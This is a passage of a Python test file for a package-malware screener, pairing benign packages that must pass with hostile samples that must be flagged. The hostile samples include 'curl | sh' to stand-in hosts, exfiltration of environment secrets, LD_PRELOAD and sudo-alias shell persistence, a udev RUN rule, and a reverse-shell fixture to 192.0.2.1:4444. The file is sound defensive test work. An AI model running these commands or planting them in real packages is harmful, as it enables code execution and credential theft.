"""What honest packages do that looks like an attack: each is a small re-creation, and none may be held."""

from __future__ import annotations

from collections.abc import Mapping
from textwrap import dedent

import pytest

from pratique.screen import screen_bytes
from pratique.verdict import Verdict
from tests.evasions.sample import INIT, SDIST, WHEEL, pack

_TWINS: dict[str, tuple[str, Mapping[str, str]]] = {
    "code in a text is freed from its indent and executed, as are letters and bytes that a person asks for": (
        WHEEL,
        {
            INIT: r"""
            import base64, marshal, subprocess, sys, textwrap

            CHILD = textwrap.dedent(
                '''
                import sys
                import subprocess
                subprocess.run([sys.executable, "-m", "hooks"])
                '''
            )
            exec(CHILD, {})

            def evaluated(text):
                return eval(text.replace(chr(13), chr(10)), {})

            def called(data):
                exec(marshal.loads(base64.b64decode(data)), {"__name__": "__main__"})

            def isolated():
                return subprocess.run([sys.executable, "-c", CHILD])
            """
        },
    ),
    "an expression is put into other letters while it is parsed, and evaluated": (
        WHEEL,
        {
            INIT: r"""
            import lexing

            def shielded(text):
                marker = 1
                while chr(marker) in text:
                    marker += 1
                return text.replace("\\,", chr(marker)) + lexing.rest(text) + chr(marker)

            def read(text, names):
                return eval(shielded(text), names)

            ONE = read("x + 1", {"x": 0})
            """
        },
    ),
    "a class whose metaclass is chosen at run time, `type` among them": (
        WHEEL,
        {
            INIT: """
            import subprocess, urllib.request

            def traced(function):
                class Traced(type):
                    def __new__(meta, name, bases, names):
                        return type.__new__(meta, name, bases, {k: function(v) for k, v in names.items()})
                return Traced

            def choose(debug, function):
                return traced(function) if debug else type

            def phases(debug):
                class Phase(metaclass=choose(debug, print)):
                    def run(self):
                        subprocess.run(["true"])
                        return urllib.request.urlopen("https://a.example.invalid/").read()
                class Step(Phase):
                    pass
                return Step
            """
        },
    ),
    "a machine looks up under which names it is known": (
        WHEEL,
        {
            INIT: """
            import platform, socket, subprocess

            NAMES = [platform.node(), socket.gethostname()]
            KNOWN = [entry[3] for entry in socket.getaddrinfo(NAMES[0] or "localhost", None)]
            ADDRESS = socket.gethostbyname(socket.gethostname())
            """
        },
    ),
    "a helper process is told by its parent what to run, packed into a line of its standard input": (
        WHEEL,
        {
            "pkg/processor.py": """
            import base64, pickle, subprocess, sys

            def run():
                line = sys.stdin.readline().strip()
                if not line:
                    sys.exit(1)
                command, options = pickle.loads(base64.b64decode(line))
                process = subprocess.Popen(command, **options)
                sys.stdout.write(str(process.wait()))

            while True:
                run()
            """,
            INIT: "",
        },
    ),
    "messages between its own processes are pickled, and travel through queues on this machine unless told otherwise": (
        WHEEL,
        {
            INIT: """
            import pickle
            from eventlet.green import zmq

            class Manager:
                def __init__(self, url="zmq+tcp://localhost:5555+5556"):
                    place, port = url.replace("zmq+", "").split("+")
                    self.source = zmq.Context().socket(zmq.SUB)
                    self.source.connect(place.replace(place.split(":")[-1], port))

                def received(self):
                    while True:
                        message = self.source.recv()
                        if message is not None:
                            yield message

                def listen(self):
                    for message in self.received():
                        if isinstance(message, bytes):
                            message = pickle.loads(message)
                        yield message
            """
        },
    ),
    "a program is given the environment, and what it prints names what is asked for": (
        WHEEL,
        {
            INIT: """
            import os, subprocess, sys, urllib.request

            def surroundings(folder):
                env = os.environ.copy()
                env["PYTHONPATH"] = folder
                return env

            def newest(name, folder):
                env = surroundings(folder)
                command = [sys.executable, "-m", "pip", "download", "--no-deps", name]
                out = subprocess.check_output(command, env=env, stdout=subprocess.PIPE, text=True)
                for line in out.splitlines():
                    project = line.strip().split("-")[0]
                    return urllib.request.urlopen(f"https://index.example.invalid/pypi/{project}/json").read()
            """
        },
    ),
    "a bootstrap at install that tries one downloader after the other for the same file": (
        SDIST,
        {
            "setup.py": """
            import os, subprocess, urllib.request
            from setuptools import setup

            BASE = "https://index.example.invalid/packages/source/t/tools/"

            def by_powershell(url, target):
                command = "(new-object System.Net.WebClient).DownloadFile(%(url)r, %(target)r)" % vars()
                checked(["powershell", "-Command", command], target)

            def by_curl(url, target):
                checked(["curl", url, "--silent", "--output", target], target)

            def by_library(url, target):
                with open(target, "wb") as out:
                    out.write(urllib.request.urlopen(url).read())

            def checked(command, target):
                try:
                    subprocess.check_call(command)
                except subprocess.CalledProcessError:
                    os.unlink(target)
                    raise

            def download(version="3.1", to=os.curdir):
                name = "tools-%s.tar.gz" % version
                target = os.path.join(to, name)
                for way in (by_library, by_powershell, by_curl):
                    way(BASE + name, target)
                return target

            download()
            setup(name="example-pkg", version="1.0")
            """
        },
    ),
    "a build that fetches fonts, beside a packager's script that installs a compiler": (
        SDIST,
        {
            "setup.py": """
            import io, os, urllib.request, zipfile
            from setuptools import setup

            FONTS = os.path.join("src", "example_pkg", "fonts")

            def fonts(url="https://www.example.invalid/ftp/fonts-20180109.zip"):
                archive = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(url).read()))
                for name in archive.namelist():
                    with open(os.path.join(FONTS, name), "wb") as out:
                        out.write(archive.read(name))

            fonts()
            setup(name="example-pkg", version="1.0")
            """,
            "packaging/extras.pth": "import example_pkg_paths\n",
            "packaging/compiler.ps1": """
            Invoke-WebRequest https://tools.example.invalid/build.exe -OutFile build.exe
            Start-Process build.exe -Wait
            """,
        },
    ),
    "code made of a template that lies beside it": (
        WHEEL,
        {
            INIT: """
            import os

            with open(os.path.join(os.path.dirname(__file__), "record.txt")) as file:
                exec(file.read().format(name="Point", size=2))
            """,
            "example_pkg/record.txt": """
            class {name}(tuple):
                size = {size}

                def __repr__(self):
                    return "{name}%r" % (tuple(self),)
            """,
        },
    ),
    "a version that stands in a text": (
        SDIST,
        {
            "setup.py": """
            from setuptools import setup

            exec(open("VERSION.txt").read())
            setup(name="example-pkg", version=__version__)
            """,
            "VERSION.txt": "__version__ = '1.0'\n",
        },
    ),
    "one variable out of a copy of the environment": (
        WHEEL,
        {
            INIT: """
            import os, requests

            def ask(question):
                env = os.environ.copy()
                env.setdefault("EXAMPLE_REGION", "north")
                key = "Bearer " + env["EXAMPLE_TOKEN"]
                body = {"q": question, "region": env.get("EXAMPLE_REGION")}
                return requests.post("https://api.example.invalid/v1", json=body, headers={"Authorization": key})

            def told(question, extra):
                config = {**dict(os.environ), **extra}
                return requests.post("https://api.example.invalid/v1", json={"project": config["EXAMPLE_PROJECT"]})
            """
        },
    ),
    "settings that carry one prefix, in a table of their own": (
        WHEEL,
        {
            INIT: """
            import os, requests

            def load():
                config = {"host": "api"}
                for name, value in os.environ.items():
                    if name.startswith("EXAMPLE_"):
                        config[name[8:].lower()] = value
                return config

            def ask(question):
                config = load()
                headers = {"X-Key": config.get("key")}
                body = {"q": question, "project": config["project"]}
                return requests.post("https://api.example.invalid/v1", json=body, headers=headers)
            """
        },
    ),
    "a client that logs in with what is kept for services": (
        WHEEL,
        {
            INIT: """
            import base64, json, netrc, os, requests

            def login():
                user, _, word = netrc.netrc().authenticators("api.example.invalid")
                return requests.post("https://api.example.invalid/login", auth=(user, word))

            def pull(image):
                auths = json.load(open(os.path.expanduser("~/.docker/config.json")))["auths"]
                user, word = base64.b64decode(auths["images.example.invalid"]["auth"]).decode().split(":")
                place = "https://auth.images.example.invalid/token"
                return requests.get(place, params={"scope": image}, auth=(user, word)).json()

            def ask(question):
                values = dict(line.strip().split("=", 1) for line in open(".env"))
                headers = {"X-Key": values["KEY"]}
                return requests.post("https://api.example.invalid/v1", json={"q": question}, headers=headers)
            """
        },
    ),
    "the public half of a key": (
        WHEEL,
        {
            INIT: """
            import os, requests

            def add_key(token):
                key = open(os.path.expanduser("~/.ssh/id_rsa.pub")).read()
                headers = {"Authorization": token}
                return requests.post("https://api.example.invalid/user/keys", json={"key": key}, headers=headers)
            """
        },
    ),
    "a client of a place for pastes": (
        WHEEL,
        {
            INIT: """
            import requests

            class Client:
                def __init__(self, key):
                    self.key = key

                def login(self, username, password):
                    data = {"dev_key": self.key, "user_name": username, "user_password": password}
                    return requests.post("https://paste.example.invalid/api/api_login.php", data=data).text

                def paste(self, text):
                    data = {"dev_key": self.key, "text": text}
                    return requests.post("https://paste.example.invalid/api/api_post.php", data=data).text
            """
        },
    ),
    "a translator of what was copied": (
        WHEEL,
        {
            INIT: """
            import pyperclip, requests

            def main():
                answer = requests.post("https://translate.example.invalid/v2", json={"text": pyperclip.paste()})
                print(answer.json()["text"])
            """
        },
    ),
    "alerts to a chat whose key is the user's": (
        WHEEL,
        {
            INIT: """
            import os, requests, socket

            class Bot:
                def __init__(self, token, chat):
                    self.token, self.chat = token, chat

                def alert(self, error):
                    text = f"{socket.gethostname()}: {error}"
                    data = {"chat_id": self.chat, "text": text}
                    return requests.post(f"https://api.telegram.org/bot{self.token}/sendMessage", data=data)
            """
        },
    ),
    "two keys that a service takes as parameters": (
        WHEEL,
        {
            INIT: """
            import os, requests

            KEY, TOKEN = os.environ["EXAMPLE_API_KEY"], os.environ["EXAMPLE_TOKEN"]

            def boards(member):
                return requests.get(f"https://api.example.invalid/1/{member}/boards?key={KEY}&token={TOKEN}").json()
            """
        },
    ),
    "a description that is fetched for the metadata": (
        SDIST,
        {
            "setup.py": """
            import json, requests, urllib.request
            from setuptools import setup

            def version():
                data = json.load(urllib.request.urlopen("https://index.example.invalid/example-pkg/json"))
                major, minor, patch = data["info"]["version"].split(".")
                return ".".join([major, minor, str(int(patch) + 1)])

            readme = requests.get("https://code.example.invalid/owner/example/main/README.md").text
            setup(name="example-pkg", version=version(), long_description=readme)
            """
        },
    ),
    "data that is unpacked into the folder that a build is named after": (
        SDIST,
        {
            "setup.py": """
            import io, subprocess, sys, urllib.request, zipfile
            from setuptools import setup

            data = urllib.request.urlopen("https://data.example.invalid/tables-1.2.zip").read()
            zipfile.ZipFile(io.BytesIO(data)).extractall("build")
            subprocess.check_call([sys.executable, "tables.py", "--into", "build"])
            setup(name="example-pkg", version="1.0")
            """,
            "tables.py": "import sys\n\nprint(sys.argv)\n",
        },
    ),
    "a small package that is a way to call another's program": (
        WHEEL,
        {
            INIT: """
            import os, requests, subprocess, sys, urllib.request

            JAR = "https://repo.example.invalid/maven2/org/example/tool/1.0/tool-1.0.jar"
            PROGRAM = "https://files.example.invalid/ffmpeg-6.0-linux64"

            def tool(arguments):
                path = os.path.join(os.path.expanduser("~"), ".tool.jar")
                if not os.path.isfile(path):
                    urllib.request.urlretrieve(JAR, path)
                return subprocess.call(["java", "-jar", path, *arguments])

            def ffmpeg(*args):
                path = os.path.expanduser("~/.cache/example/ffmpeg")
                if not os.path.exists(path):
                    with requests.get(PROGRAM, stream=True) as answer, open(path, "wb") as out:
                        for chunk in answer.iter_content(8192):
                            out.write(chunk)
                    os.chmod(path, 0o755)
                return subprocess.run([path, *args], check=True)

            def update():
                data = urllib.request.urlopen("https://code.example.invalid/owner/tool/latest/tool").read()
                with open(sys.argv[0] + ".new", "wb") as out:
                    out.write(data)
                os.replace(sys.argv[0] + ".new", sys.argv[0])
                os.execv(sys.argv[0], sys.argv)
            """
        },
    ),
    "a build that asks a module of its own which version it should fetch": (
        SDIST,
        {
            "setup.py": """
            import io, os, urllib.request, zipfile
            from setuptools import setup
            from setuptools.command.build_py import build_py
            from example_pkg.versions import newest

            class Build(build_py):
                def run(self):
                    url = "https://drivers.example.invalid/{}/driver_linux64.zip".format(newest())
                    archive = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(url).read()))
                    archive.extract("driver", "example_pkg")
                    os.chmod(os.path.join("example_pkg", "driver"), 0o755)
                    build_py.run(self)

            setup(name="example-pkg", version="1.0", cmdclass={"build_py": Build})
            """,
            "example_pkg/__init__.py": "",
            "example_pkg/versions.py": """
            import json
            from urllib.request import urlopen

            def newest():
                return json.load(urlopen("https://drivers.example.invalid/versions.json"))["newest"]
            """,
        },
    ),
    "a password that the package keeps in the key store under its own name": (
        WHEEL,
        {
            INIT: """
            import keyring, requests

            def login(user):
                body = {"user": user, "password": keyring.get_password("example", user)}
                return requests.post("https://api.example.invalid/login", json=body).json()
            """
        },
    ),
    "a release by way of setup.py, which looks first whether the documents are up to date": (
        SDIST,
        {
            "setup.py": """
            import os, sys, urllib.request
            from setuptools import setup

            def main(argv):
                if len(argv) >= 2 and argv[1] == "pypi":
                    page = urllib.request.urlopen("https://docs.example.invalid/").read()
                    if b"1.0" not in page:
                        return
                    os.system("python setup.py sdist bdist_wheel")
                    os.system("twine upload dist/*")
                else:
                    setup(name="example-pkg", version="1.0")

            main(sys.argv)
            """
        },
    ),
    "the processor is asked what it can do, by a few instructions that are put into memory": (
        WHEEL,
        {
            INIT: """
            import ctypes, mmap, os

            SHORT = [0x53, 0x89, 0xF0, 0x0F, 0xA2, 0x89, 0x07, 0x89, 0x5F, 0x04, 0x5B, 0xC3]
            OTHER = [0x53, 0x57, 0x8B, 0x7C, 0x24, 0x0C, 0x0F, 0xA2, 0x89, 0x07, 0x5F, 0x5B, 0xC3]

            class Asked:
                def __init__(self):
                    code = SHORT if os.name == "posix" else OTHER
                    held = (ctypes.c_ubyte * len(code))(*code)
                    if os.name == "nt":
                        self.kernel = ctypes.windll.kernel32
                        self.at = self.kernel.VirtualAlloc(None, len(code), 0x3000, 0x40)
                        ctypes.memmove(self.at, held, len(code))
                    else:
                        page = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
                        page.write(held)
                        self.at = ctypes.addressof(ctypes.c_void_p.from_buffer(page))
                    self.ask = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_uint32)(self.at)

            FLAGS = Asked()
            """
        },
    ),
    "cookies go back to the site that gave them": (
        WHEEL,
        {
            INIT: """
            import browser_cookie3, requests

            def ask(question):
                jar = browser_cookie3.chrome(domain_name=".questions.example.invalid")
                return requests.post("https://api.questions.example.invalid/v1", json={"q": question}, cookies=jar)
            """
        },
    ),
    "a picture that an answer holds is kept and shown": (
        WHEEL,
        {
            INIT: """
            import base64, os, requests, subprocess, sys

            def draw(text, key):
                headers = {"Authorization": "Bearer " + key}
                answer = requests.post("https://api.pictures.example.invalid/v1", json={"p": text}, headers=headers)
                with open("picture.png", "wb") as out:
                    out.write(base64.b64decode(answer.json()["data"]))
                if sys.platform == "win32":
                    os.startfile("picture.png")
                else:
                    subprocess.run(["xdg-open", "picture.png"])
            """
        },
    ),
    "a program that comes packed is unpacked, kept and run when it is needed": (
        WHEEL,
        {
            INIT: """
            import gzip, os, requests, subprocess, sys

            PROGRAM = os.path.expanduser("~/.cache/example/tool")
            PLACE = "https://code.example.invalid/owner/tool/releases/download/v1.0/tool-linux-x64.gz"

            def ready():
                if not os.path.exists(PROGRAM):
                    with open(PROGRAM, "wb") as out:
                        out.write(gzip.decompress(requests.get(PLACE).content))
                    os.chmod(PROGRAM, 0o755)
                return PROGRAM

            def main():
                sys.exit(subprocess.call([ready(), *sys.argv[1:]]))
            """
        },
    ),
    "a library's source of which the digest stands in the code is fetched, compared and built": (
        SDIST,
        {
            "setup.py": """
            from setuptools import setup
            from setuptools.command.build_ext import build_ext
            import library

            class Build(build_ext):
                def run(self):
                    library.build()
                    build_ext.run(self)

            setup(name="example-pkg", version="1.0", cmdclass={"build_ext": Build})
            """,
            "library.py": f"""
            import hashlib, io, os, subprocess, tarfile, urllib.request

            DIGEST = "{"5e" * 32}"

            def fetched(place):
                data = urllib.request.urlopen(place).read()
                if hashlib.sha256(data).hexdigest() != DIGEST:
                    raise SystemExit("another file than the one that was chosen")
                return data

            def build():
                data = fetched("https://downloads.example.invalid/libfoo-2.6.tar.gz")
                with tarfile.open(fileobj=io.BytesIO(data)) as archive:
                    archive.extractall("build")
                subprocess.check_call(["./configure", "--disable-shared"], cwd="build/libfoo-2.6")
                subprocess.check_call(["make"], cwd="build/libfoo-2.6")
            """,
        },
    ),
    "a service without a name has its own login": (
        WHEEL,
        {
            INIT: """
            import requests

            class Client:
                base = "http://203.0.113.10:8080/api/v1"

                def __init__(self, user, password):
                    self.session = requests.Session()
                    body = {"username": user, "password": password}
                    self.token = self.session.post(self.base + "/login", json=body).json()["token"]
            """
        },
    ),
    "results that a server computed come pickled and encoded, for their message is text": (
        WHEEL,
        {
            INIT: """
            import base64, cloudpickle, os, requests, zlib

            SERVER = os.environ.get("EXAMPLE_SERVER", "https://compute.example.invalid")

            def result(number, token):
                headers = {"Authorization": "Bearer " + token}
                answer = requests.get(f"{SERVER}/tasks/{number}", headers=headers).json()
                return cloudpickle.loads(zlib.decompress(base64.b64decode(answer["result"])))
            """
        },
    ),
    "settings that a service hands out encoded are given to the program that reads them": (
        WHEEL,
        {
            INIT: """
            import base64, requests, subprocess, tempfile

            def connect(country):
                servers = requests.get("http://www.gates.example.invalid/api/list").json()
                with tempfile.NamedTemporaryFile(suffix=".conf", delete=False) as out:
                    out.write(base64.b64decode(servers[country]))
                subprocess.run(["sudo", "openvpn", "--config", out.name])
            """
        },
    ),
    "an upload whose place stands beside the login that belongs to it": (
        WHEEL,
        {
            INIT: """
            import configparser, os, requests

            def repository(name):
                kept = configparser.ConfigParser()
                kept.read(os.path.expanduser("~/.pypirc"))
                found = {part: kept.get(name, part, fallback=None) for part in ("repository", "username", "password")}
                found["repository"] = found["repository"] or os.environ.get(
                    "EXAMPLE_INDEX", "https://upload.example.invalid/legacy/"
                )
                return found

            def upload(path, name="index"):
                to = repository(name)
                with open(path, "rb") as file:
                    login = (to["username"], to["password"])
                    return requests.post(to["repository"], files={"content": file}, auth=login)
            """
        },
    ),
    "counters and traces go to agents on this machine, unless variables name another one": (
        WHEEL,
        {
            INIT: """
            import http.client, json, os, socket, threading

            HOST = os.environ.get("EXAMPLE_AGENT_HOST", "localhost")
            PORT = int(os.environ.get("EXAMPLE_STATS_PORT", "8125"))
            COUNTER = (os.environ.get("EXAMPLE_STATS_HOST", "127.0.0.1"), PORT)

            def count(name):
                sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                sender.sendto(f"{socket.gethostname()}.{name}:1|c".encode(), COUNTER)

            def flush():
                link = http.client.HTTPConnection(HOST, int(os.environ.get("EXAMPLE_AGENT_PORT", "8126")))
                link.request("PUT", "/v1/traces", json.dumps({"host": socket.gethostname()}))

            count("import")
            threading.Thread(target=flush, daemon=True).start()
            """
        },
    ),
    "a count of users, by what a hash makes of the machine's number": (
        WHEEL,
        {
            INIT: """
            import hashlib, os, urllib.request, uuid

            if not os.getenv("EXAMPLE_QUIET"):
                seen = hashlib.sha256(str(uuid.getnode()).encode()).hexdigest()[:16]
                urllib.request.urlopen("https://stats.example.invalid/seen?id=" + seen, timeout=1)
            """
        },
    ),
    "traces go to a collector on this machine, unless a variable names another one": (
        WHEEL,
        {
            INIT: """
            import json, os, socket, urllib.request

            PLACE = os.environ.get("EXAMPLE_ENDPOINT", "http://localhost:4318")
            SOURCE = json.dumps({"host.name": socket.gethostname()}).encode()
            urllib.request.urlopen(PLACE + "/v1/traces", SOURCE)
            """
        },
    ),
    "the tests and examples of a scanner are full of what it looks for": (
        SDIST,
        {
            "setup.py": "from setuptools import setup\nsetup(name='example-pkg', packages=['example_pkg'])\n",
            INIT: "def scan(text):\n    return 'bash -i' in text\n",
            "tests/test_scan.py": """
            import base64, zlib

            def test_hidden():
                exec(zlib.decompress(base64.b64decode("eJwrKMrMK9FQz0jNyclXKM8vyklR1wQAS1UG5Q==")))
            """,
            "tests/data/first.ps1": "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n",
            "tests/data/second.pkl": "cos\nsystem\n(S'id'\ntR.",
            "examples/back.py": """
            import os, socket, subprocess

            s = socket.socket()
            s.connect(("192.0.2.1", 4444))
            [os.dup2(s.fileno(), i) for i in range(3)]
            subprocess.call(["/bin/sh", "-i"])
            """,
        },
    ),
    "an agent tells its server the settings that carry its own name": (
        WHEEL,
        {
            INIT: """
            import http.client, json, os, threading

            def settings():
                return {key: value for key, value in os.environ.items() if key.startswith("EXAMPLE_")}

            def connect():
                link = http.client.HTTPSConnection("collector.example.invalid")
                link.request("POST", "/connect", json.dumps({"settings": settings()}))

            threading.Thread(target=connect, daemon=True).start()
            """
        },
    ),
    "a build asks a program for its version, and fetches the list that belongs to it": (
        SDIST,
        {
            "setup.py": """
            import os
            from setuptools import setup
            from helpers import base

            with open("libfoo.txt", "w") as kept:
                kept.write(base.choose(os.environ.get("WHICH")))
            setup(name="example-pkg", version="1.0")
            """,
            "helpers/base.py": """
            import subprocess, sys
            from urllib.request import urlopen

            def run(command, capture=False, as_text=True, **options):
                if as_text:
                    command = [str(part) for part in command]
                if capture:
                    options["stdout"] = subprocess.PIPE
                done = subprocess.run(command, **options)
                return done.stdout.decode().strip() if capture else done

            def listed():
                version = run(["libfoo", "--version"], capture=True).split(" ")[0]
                return urlopen(f"https://code.example.invalid/owner/foo/{version}/download.lst").read().decode()

            def choose(which):
                if which == "make":
                    return run(["make", "-C", "libfoo"])
                elif which:
                    return run([sys.executable, which], capture=True)
                return listed()
            """,
            "helpers/__init__.py": "",
        },
    ),
}


@pytest.mark.parametrize("title", _TWINS)
def test_an_honest_package_passes(title: str) -> None:
    """Nothing in it is held or blocked, and it is read to its end."""
    filename, files = _TWINS[title]
    report = screen_bytes(pack({path: dedent(text) for path, text in files.items()}, filename), filename=filename)
    assert report.verdict is Verdict.CLEAN, [f"{f.rule}: {f.path}:{f.line}: {f.message}" for f in report.findings]


_BUILD = """
import os, subprocess, tarfile, urllib.request
from setuptools import setup
from setuptools.command.build_ext import build_ext

class Build(build_ext):
    def run(self):
        urllib.request.urlretrieve("https://code.example.invalid/owner/libfoo/archive/v1.2.tar.gz", "libfoo.tar.gz")
        {check}
        with tarfile.open("libfoo.tar.gz") as archive:
            archive.extractall("deps")
        {run}
        build_ext.run(self)

setup(name="example-pkg", version="1.0", cmdclass={{"build_ext": Build}})
"""
_CALLED = (
    "import base64, os, requests, subprocess, sys\ndata = base64.b64decode(requests.get('https://stage.example.invalid/a').text)\n"
    "with open('/tmp/a.png', 'wb') as out:\n    out.write(data)\n"
)


@pytest.mark.parametrize(
    "command",
    [
        "subprocess.run([sys.executable, '/tmp/a.png'])",
        "subprocess.run('cat /tmp/a.png | sh', shell=True)",
        "os.system('chmod +x /tmp/a.png && /tmp/a.png')",
        "os.system('cp /tmp/a.png /tmp/a; /tmp/a')",
        "os.system('nohup /tmp/a.png')",
        "subprocess.run(['/tmp/a.png'])",
    ],
)
def test_a_picture_that_is_run_is_a_program(command: str) -> None:
    """What a file is called says nothing where it, or an interpreter with it, is started."""
    report = screen_bytes(pack({INIT: _CALLED + command}, WHEEL), filename=WHEEL)
    assert report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "program", ["'bash'", "'sudo', '-E', 'sh'", "sys.executable", "'awk', '-f'", "'env', 'perl'", "kind"]
)
def test_encoded_settings_that_an_interpreter_reads_are_a_program(program: str) -> None:
    """Only of a program that is known to start nothing of what it is handed."""
    source = (
        "import base64, requests, subprocess, sys\n"
        "def connect(kind):\n    data = base64.b64decode(requests.get('https://stage.example.invalid/a').text)\n"
        f"    open('/tmp/a.conf', 'wb').write(data)\n    subprocess.run([{program}, '/tmp/a.conf'])\n"
    )
    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("secret", "path", "verdict"),
    [
        ("token", "api", Verdict.SUSPICIOUS),
        ("password", "c", Verdict.MALICIOUS),
        ("private_key", "api/login", Verdict.MALICIOUS),
        ("mnemonic", "api", Verdict.MALICIOUS),
    ],
)
def test_what_a_caller_hands_over_at_an_address_without_a_name(secret: str, path: str, verdict: Verdict) -> None:
    """A service's own token is held; what belongs to the caller alone is proven, even at a door."""
    source = (
        f"import requests\ndef f({secret}):\n    requests.post('http://203.0.113.9/{path}', json={{'k': {secret}}})\n"
    )
    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is verdict


_DIGEST = "assert __import__('hashlib').sha256(open('libfoo.tar.gz', 'rb').read()).hexdigest() == '" + "0" * 64 + "'"


@pytest.mark.parametrize(
    ("check", "run", "verdict"),
    [
        ("", "subprocess.check_call(['./configure'], cwd='deps/libfoo-1.2')", Verdict.SUSPICIOUS),
        ("", "subprocess.check_call('cd deps/libfoo-1.2 && ./configure && make', shell=True)", Verdict.SUSPICIOUS),
        (_DIGEST, "subprocess.check_call(['deps/libfoo-1.2/generate', '--all'])", Verdict.SUSPICIOUS),
        ("", "subprocess.check_call(['deps/libfoo-1.2/generate', '--all'])", Verdict.MALICIOUS),
        ("", "subprocess.check_call('cd deps/libfoo-1.2 && make && ./generate', shell=True)", Verdict.MALICIOUS),
    ],
)
def test_a_library_that_is_fetched_and_built_is_held_and_not_blocked(check: str, run: str, verdict: Verdict) -> None:
    """Whoever builds what they fetch takes a risk that a person should see; only what is run unchecked is proven."""
    data = pack({"setup.py": _BUILD.format(check=check, run=run)}, SDIST)
    assert screen_bytes(data, filename=SDIST).verdict is verdict


@pytest.mark.parametrize(
    ("line", "verdict"),
    [
        ('eval "$(_EXAMPLE_COMPLETE=source_bash example)"', Verdict.SUSPICIOUS),
        ('export PATH="$HOME/.local/bin:$PATH"', Verdict.SUSPICIOUS),
        ("source ~/.example/completion.bash", Verdict.SUSPICIOUS),
        ("alias sudo='~/.example/run'", Verdict.MALICIOUS),
        ("export LD_PRELOAD=~/.example/a.so", Verdict.MALICIOUS),
        ('export PATH="$(curl -s https://stage.example.invalid/a)"', Verdict.MALICIOUS),
        ('eval "$(complete; curl -s https://stage.example.invalid/a)"', Verdict.MALICIOUS),
        ("complete -W a b & ~/.example/run", Verdict.MALICIOUS),
    ],
)
def test_a_line_for_the_shell_that_only_sets_is_held_and_not_blocked(line: str, verdict: Verdict) -> None:
    """Completion that nobody asked for is bad manners; what starts something else at every log-in is proven."""
    source = f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write({line + chr(10)!r})\n"
    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is verdict


def test_rules_for_devices_are_held_unless_they_start_a_program() -> None:
    """Drivers put them there without being asked, which a person should see; a program at every plug is proven."""
    source = "import shutil\nshutil.copy('99-example.rules', '/etc/udev/rules.d/99-example.rules')\n"
    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is Verdict.SUSPICIOUS
    source = "open('/etc/udev/rules.d/9.rules', 'w').write('ACTION==\"add\", RUN+=\"/opt/example/run\"')\n"
    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("asked", "host"),
    [
        (".questions.example.invalid", "answers.example.invalid"),
        (".questions.example.invalid", "questions.example.invalid.c.example"),
        ("", "questions.example.invalid"),
        (".invalid", "questions.example.invalid"),
    ],
)
def test_cookies_that_go_to_another_site_are_held(asked: str, host: str) -> None:
    """A site is given back what it gave, and nobody else; all cookies together belong to no site."""
    jar = f"browser_cookie3.chrome(domain_name={asked!r})" if asked else "browser_cookie3.load()"
    source = f"import browser_cookie3, requests\ndef f():\n    requests.post('https://{host}/', json=str({jar}))\n"
    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("prefix", ["AWS_", "GITHUB_", "OTHER_", "E"])
def test_settings_of_others_are_no_settings_of_ones_own(prefix: str) -> None:
    """Variables that begin like the package are its own settings; a cloud's, or everybody's, are not."""
    source = (
        "import os, requests\n"
        f"found = {{k: v for k, v in os.environ.items() if k.startswith({prefix!r})}}\n"
        "requests.post('https://c.example.invalid/', json=found)\n"
    )
    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "condition",
    [
        "if 'install' in sys.argv:",
        "if sys.argv[-1] != 'publish':",
        "if sys.argv[-1] == 'publish' or sys.argv:",
        "sys.argv.append('publish')\nif sys.argv[-1] == 'publish':",
        "sys.argv = ['x', 'publish']\nif sys.argv[-1] == 'publish':",
        "argv = ['publish']\nif argv[-1] == 'publish':",
        "if sys.argv[-1] == 'publish':\n    pass\nelse:",
    ],
)
def test_what_an_installer_reaches_is_proven_whatever_is_asked_for(condition: str) -> None:
    """Only a branch that a maintainer's command alone leads into is not run while the package is installed."""
    source = f"import os, sys\n{condition}\n    os.system('curl -s https://stage.example.invalid/a | sh')\n"
    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("client", ["svn checkout -q", "git clone -q", "hg clone"])
def test_a_checkout_does_not_run_the_folder_that_it_is_given(client: str) -> None:
    """An installer reads a page, follows a link of it, and checks out what lies there; nothing of that is started."""
    source = (
        "import os, tempfile\n"
        "from urllib.parse import unquote\n"
        "from urllib.request import urlopen\n"
        "def get(name):\n"
        "    page = urlopen('https://c.example.invalid/simple/%s/' % name).read().decode()\n"
        "    link = unquote(page.split('\"')[1])\n"
        "    target = os.path.join(tempfile.mkdtemp(), link.split('/')[-1])\n"
        "    open(target, 'w').write(page)\n"
        f"    os.system('{client} %s %s' % (link, target))\n"
    )
    honest = screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL)
    assert honest.verdict is Verdict.CLEAN, honest.findings
    started = f"{source}    os.system('sh %s' % target)\nget('a')\n"
    assert screen_bytes(pack({INIT: started}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS


def test_compiled_code_that_is_only_looked_at_is_not_executed() -> None:
    """A build tool reads the names that a fetched module uses; who executes what it unpacks is found by that."""
    source = (
        "import marshal, os, tempfile\n"
        "from urllib.parse import unquote\n"
        "from urllib.request import urlopen\n"
        "def names(project):\n"
        "    page = urlopen('https://c.example.invalid/simple/%s/' % project).read()\n"
        "    path = os.path.join(tempfile.mkdtemp(), unquote(page.decode()).split('/')[-1])\n"
